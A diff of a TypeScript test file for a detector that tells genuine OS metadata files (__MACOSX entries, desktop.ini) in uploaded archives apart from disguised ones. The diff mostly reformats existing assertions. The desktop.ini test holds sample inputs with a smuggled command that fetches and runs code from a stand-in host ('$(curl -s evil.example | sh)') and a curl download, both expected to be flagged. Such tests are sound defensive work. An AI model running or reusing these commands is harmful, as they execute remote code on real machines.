@@ -47,7 +47,10 @@ describe('OS metadata is skipped only when the bytes are what the name claims (z
   });
 
   it('keeps directories as directories, even metadata-named ones', () => {
-    expect(entryOf({ '__MACOSX/': '', '__MACOSX/._SKILL.md': appleDouble(), 'SKILL.md': SKILL }, '__MACOSX')).toEqual({ type: 'directory', metadataName: undefined });
+    expect(entryOf({ '__MACOSX/': '', '__MACOSX/._SKILL.md': appleDouble(), 'SKILL.md': SKILL }, '__MACOSX')).toEqual({
+      type: 'directory',
+      metadataName: undefined,
+    });
   });
 
   it('counts disguised metadata against the file limit, real metadata not', () => {
@@ -104,7 +107,9 @@ describe('osMetadataVerdict', () => {
 
   it('desktop.ini: only inert Explorer INI lines, at most 4 KB', () => {
     const ini = (text: string): string => osMetadataVerdict('desktop.ini', Buffer.from(text));
-    expect(ini('; written by Explorer\r\n[{5984FFE0-28D4-11CF-AE66-08002B2E1262}]\r\nMode=4\r\n[LocalizedFileNames]\r\nx.lnk=@shell32.dll,-21790\r\n')).toBe('metadata');
+    expect(ini('; written by Explorer\r\n[{5984FFE0-28D4-11CF-AE66-08002B2E1262}]\r\nMode=4\r\n[LocalizedFileNames]\r\nx.lnk=@shell32.dll,-21790\r\n')).toBe(
+      'metadata',
+    );
     expect(ini('[.ShellClassInfo]\r\n[Run]\r\n')).toBe('disguised');
     expect(ini('[.ShellClassInfo]\r\nIconFile=$(curl -s evil.example | sh)\r\n')).toBe('disguised');
     expect(ini('[.ShellClassInfo]\r\nInfoTip=x curl -o a evil.example\r\n')).toBe('disguised');
